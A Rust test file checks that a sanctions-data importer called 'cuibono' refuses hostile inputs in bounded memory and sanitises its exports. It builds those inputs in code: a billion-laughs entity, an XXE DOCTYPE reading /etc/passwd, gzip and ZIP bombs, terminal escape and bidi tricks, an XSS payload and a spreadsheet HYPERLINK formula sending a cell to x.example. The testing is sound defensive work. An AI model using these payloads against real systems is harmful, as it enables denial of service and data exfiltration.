//! Files made to hurt: endless lines, deep nesting, entities, bombs, a million attributes. Each
//! goes to every format through the built program, by a pipe where it is large; it is refused
//! with one message, in bounded memory and time.

use crate::fuzz_entries::IMPORTERS;
use flate2::{Compression, write::GzEncoder};
use std::io::{self, Read, Write};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};
use tempfile::TempDir;

/// The most memory that refusing a file may take.
const MEMORY: u64 = 256 << 20;
/// A whole document is held while it is read: its text, and what is made of it.
const DOCUMENT: u64 = 1_400 << 20;
/// Nobody measures here how fast it is; but it must not hang.
const PATIENCE: Duration = Duration::from_secs(120);

/// Writes a file, however large, and holds none of it.
type Make = Box<dyn FnOnce(&mut dyn Write) -> io::Result<()> + Send>;

struct Ran {
    code: Option<i32>,
    out: String,
    err: String,
    peak: u64,
}

/// The most memory that a process has had, as Linux tells while it lives.
fn peak(child: &Child) -> u64 {
    // A process just started still has the memory of the one that started it, until it runs its program.
    let runs = std::fs::read_link(format!("/proc/{}/exe", child.id()));
    if runs.is_ok_and(|program| !program.ends_with("cuibono")) {
        return 0;
    }
    let text = std::fs::read_to_string(format!("/proc/{}/status", child.id())).unwrap_or_default();
    let line = text.lines().find_map(|l| l.strip_prefix("VmHWM:")).unwrap_or("0");
    line.split_whitespace().next().and_then(|n| n.parse::<u64>().ok()).unwrap_or(0) * 1024
}

fn run(dir: &TempDir, args: &[&str], input: Make) -> Ran {
    let mut child = Command::new(env!("CARGO_BIN_EXE_cuibono"))
        .current_dir(dir.path())
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut to = child.stdin.take().unwrap();
    // A program that has seen enough closes its end: that is no failure of the test.
    let writer = std::thread::spawn(move || input(&mut to).ok());
    fn drain(from: impl Read + Send + 'static) -> std::thread::JoinHandle<String> {
        std::thread::spawn(move || {
            let mut text = Vec::new();
            let mut from = from;
            from.read_to_end(&mut text).ok();
            String::from_utf8_lossy(&text).into_owned()
        })
    }
    let out = drain(child.stdout.take().unwrap());
    let err = drain(child.stderr.take().unwrap());
    let start = Instant::now();
    let mut most = 0;
    let status = loop {
        most = most.max(peak(&child));
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if start.elapsed() > PATIENCE {
            child.kill().ok();
            panic!("{args:?} does not end");
        }
        std::thread::sleep(Duration::from_millis(2));
    };
    writer.join().unwrap();
    Ran { code: status.code(), out: out.join().unwrap(), err: err.join().unwrap(), peak: most }
}

/// Imports what `input` writes and wants it refused, with one line of message.
fn refused(format: &str, what: &str, memory: u64, input: Make) -> String {
    let dir = TempDir::new().unwrap();
    let r = run(&dir, &["import", "-", "--format", format, "--store", "s", "-q"], input);
    assert_eq!(r.code, Some(2), "{format}, {what}: {} {}", r.out, r.err);
    let first = r.err.lines().next().unwrap_or_default().to_owned();
    assert!(first.starts_with("error: ") && first.len() < 800, "{format}, {what}: {}", r.err);
    assert!(r.err.lines().count() <= 2 && !r.err.contains("panicked"), "{format}, {what}: {}", r.err);
    assert!(r.peak < memory, "{format}, {what}: {} MB", r.peak >> 20);
    println!("{format}, {what}: {} MB: {first}", r.peak >> 20);
    first
}

/// What kind of text a format is made of.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Text {
    Xml,
    Json,
    Table,
}

fn text_of(format: &str) -> Text {
    match format {
        "ofac-xml" | "eu-fsf" | "un-xml" | "ch-seco" | "gleif" | "ofac-legacy" | "ca-sema" | "uk-sl" => Text::Xml,
        "dump" | "bods" | "document" | "ftm" | "uk-psc" => Text::Json,
        _ => Text::Table,
    }
}

/// A beginning that the format takes for its own, up to a place where anything may follow.
fn head(format: &str) -> String {
    let own = match format {
        "ofac-xml" => "<Sanctions xmlns=\"https://www.un.org/sanctions/1.0\"><DateOfIssue>",
        "eu-fsf" => {
            "<export xmlns=\"http://eu.europa.ec/fpi/fsd/export\" generationDate=\"2024-01-01\"><sanctionEntity>"
        }
        "un-xml" => "<CONSOLIDATED_LIST dateGenerated=\"2024-05-01\"><INDIVIDUALS><INDIVIDUAL>",
        "ch-seco" => "<swiss-sanctions-list list-type=\"full-list\" date=\"2024-01-01\"><target>",
        "gleif" => {
            "<lei:LEIData xmlns:lei=\"http://www.gleif.org/data/schema/leidata/2016\"><lei:LEIRecords><lei:LEIRecord>"
        }
        "ofac-legacy" => "<sdnList xmlns=\"http://tempuri.org/sdnList.xsd\"><publshInformation>",
        "ca-sema" => "<data-set><record>",
        "uk-sl" => "<Designations xmlns:xsi=\"x\"><DateGenerated>20/08/2026</DateGenerated><Designation>",
        "dump" => "{\"cuibono_dump\":1}\n",
        "bods" => "[",
        "document" => "{\"cuibono\":1,\"scope\":\"xb\",\"nodes\":[",
        "ftm" | "uk-psc" => "",
        table => return table_head(table),
    };
    own.to_owned()
}

/// The header of a table, as its seed has it.
fn table_head(format: &str) -> String {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("fuzz/corpus").join(format);
    let seed = std::fs::read_to_string(dir.join("seed-1")).unwrap_or_default();
    let lines = if format == "uk-ofsi" { 2 } else { usize::from(format != "ofac-csv") };
    seed.split_inclusive('\n').take(lines).collect()
}

fn formats(text: Text) -> impl Iterator<Item = &'static str> {
    IMPORTERS.iter().map(|(n, _)| *n).filter(move |n| text_of(n) == text)
}

fn letters(out: &mut dyn Write, bytes: u64) -> io::Result<()> {
    let block = [b'x'; 64 * 1024];
    for _ in 0..bytes / block.len() as u64 {
        out.write_all(&block)?;
    }
    Ok(())
}

fn one_line(chosen: &dyn Fn(&str) -> bool) {
    for (format, _) in IMPORTERS.into_iter().filter(|(n, _)| chosen(n)) {
        let open = match text_of(format) {
            Text::Xml => head(format),
            Text::Json => head(format) + "{\"id\": \"",
            Text::Table => head(format),
        };
        let memory = if format == "document" { DOCUMENT } else { MEMORY };
        let make: Make = Box::new(move |out| {
            out.write_all(open.as_bytes())?;
            letters(out, 1 << 30)
        });
        refused(format, "a gigabyte without an end of line", memory, make);
    }
}

#[test]
fn one_line_of_a_gigabyte() {
    one_line(&|n| n != "document");
}

/// The only format that is held as a whole reads up to its limit first.
#[test]
#[ignore = "a gigabyte read: run in release by .ci/run"]
fn a_document_of_one_line_of_a_gigabyte() {
    one_line(&|n| n == "document");
}

#[test]
fn nesting_of_a_hundred_thousand() {
    const DEEP: usize = 100_000;
    for format in formats(Text::Xml) {
        let text = format!("{}{}", head(format), "<a>".repeat(DEEP));
        let said = refused(format, "nested XML", MEMORY, Box::new(move |out| out.write_all(text.as_bytes())));
        assert!(said.contains("nested deeper than 256"), "{said}");
        let text = format!("{}{}", "<a>".repeat(DEEP), "</a>".repeat(DEEP));
        refused(format, "nothing but nested XML", MEMORY, Box::new(move |out| out.write_all(text.as_bytes())));
    }
    for format in formats(Text::Json) {
        for (open, close) in [("{\"a\":", "}"), ("[", "]")] {
            let deep = format!("{}1{}", open.repeat(DEEP), close.repeat(DEEP));
            let whole = format!("{}{deep}\n", head(format));
            refused(format, "nested JSON", MEMORY, Box::new(move |out| out.write_all(whole.as_bytes())));
            let within = format!("{}{{\"id\": \"a\", \"properties\": {deep}}}\n", head(format));
            refused(format, "JSON nested within", MEMORY, Box::new(move |out| out.write_all(within.as_bytes())));
        }
    }
}

#[test]
fn document_types_and_entities() {
    let mut laughs = String::from("<!DOCTYPE x [<!ENTITY a0 \"ha\">");
    for i in 1..20 {
        let (name, more) = (format!("a{i}"), format!("&a{};", i - 1).repeat(10));
        laughs.push_str(&format!("<!ENTITY {name} \"{more}\">"));
    }
    laughs.push_str("]>");
    let outside = "<!DOCTYPE x SYSTEM \"file:///etc/passwd\">".to_owned();
    let parameter = "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://127.0.0.1:9/x\"> %p;]>".to_owned();
    for format in formats(Text::Xml) {
        for types in [&laughs, &outside, &parameter] {
            let text = format!("<?xml version=\"1.0\"?>{types}{}&a19;", head(format));
            let said =
                refused(format, "a document type", 64 << 20, Box::new(move |out| out.write_all(text.as_bytes())));
            assert!(said.contains("DOCTYPE"), "{said}");
        }
        let text = format!("<?xml version=\"1.0\"?>{}&a19;", head(format));
        let said = refused(format, "an entity", 64 << 20, Box::new(move |out| out.write_all(text.as_bytes())));
        assert!(said.contains("unknown entity") || said.contains("entit"), "{said}");
    }
}

#[test]
fn a_million_attributes() {
    for format in formats(Text::Xml) {
        let open = head(format);
        let make: Make = Box::new(move |out| {
            write!(out, "{open}<a")?;
            let mut buffer = io::BufWriter::new(out);
            for i in 0..1_000_000 {
                write!(buffer, " a{i}=''")?;
            }
            buffer.write_all(b"/>")
        });
        let said = refused(format, "a million attributes", MEMORY, make);
        assert!(said.contains("attributes"), "{said}");
    }
}

#[test]
fn rows_of_nothing_but_fields_and_quotes() {
    for format in formats(Text::Table) {
        for (what, piece) in
            [("commas", ","), ("quotes", "\"\""), ("open quotes", "\"a\n\"\""), ("quoted cells", "\"a\nb\",")]
        {
            let open = head(format);
            let make: Make = Box::new(move |out| {
                out.write_all(open.as_bytes())?;
                // In most of them only the second row begins with a quote.
                let block = piece.repeat(16 * 1024);
                for _ in 0..(64 << 20) / block.len() {
                    out.write_all(block.as_bytes())?;
                }
                Ok(())
            });
            refused(format, what, MEMORY, make);
        }
    }
}

/// Packed bytes that unpack to this many zeros, or blanks.
fn bomb(byte: u8, unpacked: usize) -> Vec<u8> {
    let mut e = GzEncoder::new(Vec::new(), Compression::best());
    let block = vec![byte; 1 << 20];
    for _ in 0..unpacked >> 20 {
        e.write_all(&block).unwrap();
    }
    e.finish().unwrap()
}

#[test]
#[ignore = "packs and unpacks gigabytes: run in release by .ci/run"]
fn packed_bombs() {
    let blanks = bomb(b' ', 1 << 30);
    let lines = bomb(b'\n', 1 << 30);
    for (format, _) in IMPORTERS {
        for (what, packed) in [("a bomb of blanks", &blanks), ("a bomb of lines", &lines)] {
            let mut e = GzEncoder::new(Vec::new(), Compression::fast());
            e.write_all(head(format).as_bytes()).unwrap();
            let whole = [e.finish().unwrap(), packed.clone()].concat();
            // A document is held as text up to where the bomb is noticed.
            let said = refused(format, what, MEMORY + (128 << 20), Box::new(move |out| out.write_all(&whole)));
            assert!(["bomb", "longer than", "more than", "columns"].iter().any(|w| said.contains(w)), "{said}");
        }
    }
}

/// A ZIP file whose one member unpacks to a gigabyte.
fn zip_bomb(name: &str, first: &[(&str, &str)]) -> Vec<u8> {
    use zip::{ZipWriter, write::SimpleFileOptions};
    let mut z = ZipWriter::new(io::Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
    for (name, text) in first {
        z.start_file(*name, options).unwrap();
        z.write_all(text.as_bytes()).unwrap();
    }
    z.start_file(name, options).unwrap();
    let block = vec![b' '; 1 << 20];
    for _ in 0..1024 {
        z.write_all(&block).unwrap();
    }
    z.finish().unwrap().into_inner()
}

#[test]
#[ignore = "packs and unpacks gigabytes: run in release by .ci/run"]
fn archives_and_workbooks_that_are_bombs() {
    let dir = TempDir::new().unwrap();
    let types = ("[Content_Types].xml", "<Types/>");
    let workbook =
        ("xl/workbook.xml", "<workbook><sheets><sheet name=\"S\" sheetId=\"1\" r:id=\"r1\"/></sheets></workbook>");
    let rels = (
        "xl/_rels/workbook.xml.rels",
        "<Relationships><Relationship Id=\"r1\" Type=\"t\" Target=\"worksheets/sheet1.xml\"/></Relationships>",
    );
    let files = [
        ("table.zip", zip_bomb("nodes.csv", &[])),
        ("list.xlsx", zip_bomb("xl/worksheets/sheet1.xml", &[types, workbook, rels])),
        ("list.ods", zip_bomb("content.xml", &[("mimetype", "application/vnd.oasis.opendocument.spreadsheet")])),
    ];
    for (name, bytes) in files {
        assert!(bytes.len() < 4 << 20, "{name}");
        std::fs::write(dir.path().join(name), bytes).unwrap();
        for format in ["uk-sl", "uk-ofsi", "table"] {
            let r = run(&dir, &["import", name, "--format", format, "--store", "s", "-q"], Box::new(|_| Ok(())));
            assert_eq!(r.code, Some(2), "{name} as {format}: {} {}", r.out, r.err);
            assert!(r.peak < MEMORY, "{name} as {format}: {} MB", r.peak >> 20);
            assert!(r.err.starts_with("error: ") && r.err.lines().count() <= 2, "{name} as {format}: {}", r.err);
        }
    }
}

/// Characters that a terminal, a spreadsheet, XML or C programs take for something else.
const EVIL: [&str; 7] = [
    "Ard\u{1b}]0;owned\u{7}\u{1b}[2Jent",
    "Bri\u{9b}31mll",
    "Corvo \u{202e}DTL DERAELC\u{202c}",
    "Dr\u{0}ay",
    "=HYPERLINK(\"http://x.example/?\"&A1)",
    "<script>alert(1)</script>\" onload=\"x",
    "line\r\nbreak\u{2028}and\u{85}more\u{fffe}",
];

/// A document whose every text is evil.
fn evil() -> String {
    let node = |(i, name): (usize, &&str)| {
        serde_json::json!({"id": format!("n{i}"), "type": "company", "name": name, "aliases": [format!("@{name}")],
            "properties": {"note": format!("+{name}")}})
    };
    let edge = |i: usize| {
        serde_json::json!({"source": format!("n{i}"), "target": format!("n{}", i + 1), "type": "owns", "share": "60",
            "role": EVIL[i], "evidence": [{"source": "xa", "locator": EVIL[i]}]})
    };
    let nodes: Vec<_> = EVIL.iter().enumerate().map(node).collect();
    let edges: Vec<_> = (0..EVIL.len() - 1).map(edge).collect();
    serde_json::json!({"cuibono": 1, "scope": "xa", "sources": [{"id": "xa", "title": EVIL[0]}],
        "nodes": nodes, "edges": edges})
    .to_string()
}

fn odd(c: char) -> bool {
    (c.is_control() && !matches!(c, '\n' | '\t'))
        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{2028}' | '\u{2029}')
}

#[test]
fn evil_names_in_texts_and_exports() {
    let dir = TempDir::new().unwrap();
    std::fs::write(dir.path().join("evil.json"), evil()).unwrap();
    let run = |args: &[&str]| {
        let r = run(&dir, args, Box::new(|_| Ok(())));
        assert!(matches!(r.code, Some(0 | 1)), "{args:?}: {:?} {}", r.code, r.err);
        assert!(!r.err.chars().any(odd), "{args:?}: {:?}", r.err);
        r.out
    };
    run(&["import", "evil.json", "--release", "2024-01-01", "-q"]);
    // What is text for people has no such character in it, wherever it goes.
    for args in [
        &["show", "xa:n0"][..],
        &["show", "xa:n4"],
        &["trace", "xa:n6"],
        &["path", "xa:n0", "xa:n6", "--format", "table"],
        &["search", "ard", "--format", "table"],
        &["neighbours", "xa:n3", "--format", "table"],
        &["verdict", "xa:n6", "--as-of", "2026-03-01", "--format", "table"],
        &["verify"],
    ] {
        let out = run(args);
        assert!(!out.is_empty() && !out.chars().any(odd), "{args:?}: {out:?}");
    }
    // Rows stay rows.
    let out = run(&["neighbours", "xa:n0", "--hops", "9", "--format", "tsv"]);
    let columns: Vec<usize> = out.lines().map(|l| l.split('\t').count()).collect();
    assert!(columns.len() == EVIL.len() && columns.iter().all(|n| *n == columns[0]), "{columns:?}");
    for format in ["graphml", "gexf", "svg"] {
        let out = run(&["export", "--format", format]);
        assert!(!out.chars().any(|c| (c < ' ' && !matches!(c, '\n' | '\t')) || c == '\u{fffe}'), "{format}");
        assert!(!out.contains("<script") && out.contains("&lt;script"), "{format}");
        let mut reader = quick_xml::Reader::from_str(&out);
        loop {
            match reader.read_event().unwrap_or_else(|e| panic!("{format}: {e}")) {
                quick_xml::events::Event::Eof => break,
                quick_xml::events::Event::Start(e) | quick_xml::events::Event::Empty(e) => {
                    assert!(e.attributes().all(|a| a.unwrap().key.as_ref() != "onload"), "{format}");
                }
                _ => {}
            }
        }
    }
    let page = run(&["export", "--format", "html"]);
    let odd = |c: char| (c < ' ' && c != '\n') || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    assert!(!page.chars().any(odd) && !page.contains("<script") && page.contains("&lt;script"));
    for format in ["document", "jsonl", "cytoscape", "node-link", "graphology", "ftm", "bods"] {
        let out = run(&["export", "--format", format]);
        assert!(!out.chars().any(|c| c < ' ' && c != '\n'), "{format}: {out:?}");
        let values = serde_json::Deserializer::from_str(&out).into_iter::<serde_json::Value>();
        assert!(!values.map(|v| v.unwrap()).collect::<Vec<_>>().is_empty(), "{format}");
    }
    let out = run(&["export", "--format", "dot"]);
    assert!(!out.contains(['\u{1b}', '\0']), "{out:?}");
    for (flag, what) in [("--for-spreadsheet", true), ("-q", false)] {
        let folder = if what { "sheets" } else { "tables" };
        run(&["export", "--format", "csv", "-o", folder, flag]);
        for name in ["nodes.csv", "edges.csv", "sources.csv"] {
            let bytes = std::fs::read(dir.path().join(folder).join(name)).unwrap();
            let mut rows = csv::ReaderBuilder::new().flexible(false).from_reader(&bytes[..]);
            for row in rows.records() {
                let row = row.unwrap();
                let formula = |c: &&str| c.trim_start().starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']);
                if what {
                    assert_eq!(row.iter().find(formula), None, "{name}");
                }
            }
        }
    }
    run(&["export", "--format", "neo4j", "-o", "neo4j"]);
    // And all of it comes back as it was.
    let dump = run(&["dump"]);
    std::fs::write(dir.path().join("dump.jsonl"), &dump).unwrap();
    run(&["import", "dump.jsonl", "--store", "again", "-q"]);
    assert_eq!(run(&["dump", "--store", "again"]), dump);
}
